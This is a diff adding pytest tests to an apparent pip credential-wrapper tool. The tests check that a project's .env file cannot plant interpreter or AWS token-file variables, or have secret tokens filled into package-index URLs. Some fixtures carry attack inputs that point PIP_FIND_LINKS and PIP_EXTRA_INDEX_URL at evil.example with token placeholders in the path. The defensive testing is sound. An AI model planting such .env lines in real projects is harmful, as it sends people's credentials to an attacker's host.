@@ -284,6 +284,27 @@ def test_an_env_file_chooses_no_program(auth_exec, project: Path, name: str) -> 
     assert f"{name} not taken" in run.stderr
 
 
+@pytest.mark.parametrize("name", ["PIP___PYTHON", "pip_python", "PYENV_ROOT", "AWS_WEB_IDENTITY_TOKEN_FILE"])
+def test_other_spellings_of_an_env_file(auth_exec, project: Path, name: str) -> None:
+    """P6, audit 3: pip reads PIP___PYTHON as `--python`; a profile's name is left to the tool."""
+    (project / ".env").write_text(f"{name}={project}/planted\nAWS_PROFILE=team\n")
+    run = auth_exec("other", options=("--env-file", ".env"))
+    assert name not in run.environ
+    assert run.environ["AWS_PROFILE"] == "team"
+    assert run.environ["_AUTHPIP_TOOL_VARIABLES"] == "AWS_PROFILE"
+
+
+def test_a_rules_token_is_not_filled_in(auth_exec, project: Path, tmp_path: Path) -> None:
+    """P6, A15, audit 3: ${CORP_TOKEN} of a rule, and ${CI_JOB_TOKEN} of a provider, are not filled in; ${HOST} is."""
+    config = tmp_path / "config.toml"
+    config.write_text(f'[[index]]\nname = "b"\nurl = "{TEAM}"\nprovider = "token"\ntoken.variable = "CORP_TOKEN"\n')
+    config.chmod(0o600)
+    (project / ".env").write_text("PIP_FIND_LINKS=http://${HOST}/${CORP_TOKEN}/${CI_JOB_TOKEN}/\n")
+    secrets = {"CORP_TOKEN": SECRET, "CI_JOB_TOKEN": SECRET, "HOST": "evil.example", "AUTHPIP_CONFIG": str(config)}
+    run = auth_exec("other", options=("--env-file", ".env"), **secrets)
+    assert run.environ["PIP_FIND_LINKS"] == "http://evil.example///"
+
+
 def test_an_env_file_puts_no_secret_into_a_url(auth_exec, project: Path) -> None:
     """P6, A15, audit 3: ${AUTHPIP_INDEX_CORP_PASSWORD} in a project's file is not filled in."""
     (project / ".env").write_text("PIP_EXTRA_INDEX_URL=http://evil.example/${AUTHPIP_INDEX_CORP_PASSWORD}/\n")
